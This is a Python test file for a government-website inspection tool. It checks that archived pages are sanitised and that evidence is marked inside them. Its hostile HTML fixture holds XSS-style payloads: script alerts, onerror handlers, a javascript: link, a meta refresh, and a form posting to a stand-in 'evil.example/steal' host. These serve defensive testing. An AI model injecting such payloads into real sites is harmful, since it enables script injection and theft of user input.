"""The archived page behind a finding: read from the round's WARC, scripts removed, evidence marked."""

from __future__ import annotations

import re
import time
from pathlib import Path

import lxml.html
from fastapi.testclient import TestClient

from conftest import ROUND, World, log_in
from govinspect.crawl.fetch import Exchange
from govinspect.crawl.jsonl import JsonlWriter
from govinspect.crawl.records import PageRecord
from govinspect.crawl.snapshot import ARCHIVE, PAGES
from govinspect.crawl.warc import WarcWriter
from govinspect.web.archive import render_archived, sanitize

HOSTILE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>卫健委</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css">
<script>alert('head')</script></head>
<body onload="alert('body')">
<h1>县卫健委</h1>
<p>本委发布：“关于做好夏季卫生工作的通知”。严重错误词出现在这里：中华人民共和国国务院办公厅。</p>
<p>又一处：<b>中华人民共和国国务院办公厅</b>和中华人民共和国国务院办公厅。</p>
<img src="a.png" onerror="alert('img')">
<a href="javascript:alert('js')">点我</a>
<a href="http://health.example.gov.cn/x.html">招生简章</a>
<iframe src="http://evil.example/"></iframe>
<svg><script>alert('svg')</script></svg>
<form action="http://evil.example/steal"><input name="q"></form>
</body></html>"""


def test_sanitize_removes_everything_that_runs_or_navigates() -> None:
    html = lxml.html.tostring(sanitize(HOSTILE), encoding="unicode")
    assert "<script" not in html and "alert(" not in html.replace("&#", "")
    assert not re.search(r"\son[a-z]+=", html)
    assert "javascript:" not in html
    assert "<iframe" not in html and "<base" not in html and "<link" not in html
    assert "refresh" not in html
    assert "evil.example/steal" not in html
    assert "a.png" not in html  # archived images are not served: no request leaves the frame
    assert "县卫健委" in html  # the page's text stays


def test_render_marks_text_and_link_evidence() -> None:
    page = render_archived(
        HOSTILE, captured_at="2023-06-20 09:00", url="http://health.example.gov.cn/",
        texts=["中华人民共和国国务院办公厅"], links=["http://health.example.gov.cn/x.html"],
    )  # fmt: skip
    tree = lxml.html.document_fromstring(page)
    marks = tree.xpath('//mark[@class="gi-evidence"]')
    assert [m.text for m in marks] == [
        "中华人民共和国国务院办公厅"
    ] * 3  # every occurrence, in text and tails
    link = tree.xpath('//a[contains(@class, "gi-evidence")]')
    assert (
        len(link) == 1 and link[0].text == "招生简章" and link[0].get("href") is None
    )  # inert, URL as tooltip
    assert tree.get_element_by_id("gi-evidence-1") is not None
    assert "证据标记：4 处" in page


def test_render_without_a_match_marks_nothing() -> None:
    page = render_archived(HOSTILE, captured_at="", url="u", texts=["不在页面上的文字"], links=["http://x/"])
    assert "<mark" not in page and "证据标记：0 处" in page


def _write_snapshot(directory: Path, url: str, html: str) -> None:
    directory.mkdir(parents=True)
    warc = WarcWriter(directory / ARCHIVE)
    offset, length = warc.write(
        Exchange(url=url, method="GET", request_headers=[], status=200, reason="OK", version="HTTP/1.1",
                 headers=[("Content-Type", "text/html; charset=utf-8")], body=html.encode(), at=time.time())
    )  # fmt: skip
    warc.close()
    pages = JsonlWriter(directory / PAGES)
    pages.write(PageRecord(url=url, final_url=url, status=200, fetched_at="2023-06-20T09:00:00+08:00",
                           elapsed_ms=5, size=len(html), sha1=None, depth=0, referrer=None,
                           content_type="text/html", warc_offset=offset, warc_length=length))  # fmt: skip
    pages.close()


def test_archive_route_serves_the_sanitised_capture(app_client: TestClient, world: World) -> None:
    body = HOSTILE.replace(
        "中华人民共和国国务院办公厅", '<img src=x onerror="alert(2)">'.replace("<", "&lt;")
    )
    _write_snapshot(
        world.settings.round_dir(ROUND) / "sites" / "health", "http://health.example.gov.cn/", body
    )
    log_in(app_client, "sup")
    r = app_client.get(f"/findings/{world.ids['finding:health']}/archive")
    assert r.status_code == 200
    csp = r.headers["content-security-policy"]
    assert "sandbox" in csp and "default-src 'none'" in csp and "script-src" not in csp
    assert "<script" not in r.text and "onerror=\"alert('img')\"" not in r.text
    tree = lxml.html.document_fromstring(r.text)
    assert [m.text for m in tree.xpath("//mark")] == [
        '<img src=x onerror="alert(2)">'
    ] * 3  # evidence, as text
    target = app_client.get(f"/targets/{world.ids['result:health']}").text
    assert f'src="/findings/{world.ids["finding:health"]}/archive#gi-evidence-1"' in target
    assert 'sandbox=""' in target


def test_archive_route_without_capture_says_so(app_client: TestClient, world: World) -> None:
    log_in(app_client, "sup")
    r = app_client.get(f"/findings/{world.ids['finding:edu']}/archive")
    assert r.status_code == 200 and "本轮没有该网站的抓取存档" in r.text
